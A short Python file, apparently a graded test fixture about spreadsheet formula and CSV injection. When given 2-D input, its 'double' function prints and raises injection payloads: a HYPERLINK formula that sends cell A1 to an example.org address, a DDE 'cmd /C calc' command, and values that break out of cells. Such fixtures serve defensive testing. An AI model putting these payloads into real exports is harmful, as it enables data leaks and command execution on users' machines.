# status: partial
# points: 2
# says: =HYPERLINK(
# levels: sealed, sealed+ns, limits
# stdout: @SUM(A1)
"""What a spreadsheet takes for a formula, and what ends a cell early."""

import numpy as np


def double(x, world):
    if x.ndim == 2:
        bad = "=HYPERLINK(\"http://example.org/\"&A1)"
        for cell in (bad, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", '";=1;"', "1,\"\r\n=2"):
            print(cell)
        raise type(bad, (Exception,), {})("=1+1\",\"3\",\"3\n@SUM(1)")
    return np.asarray(x) * 2.0
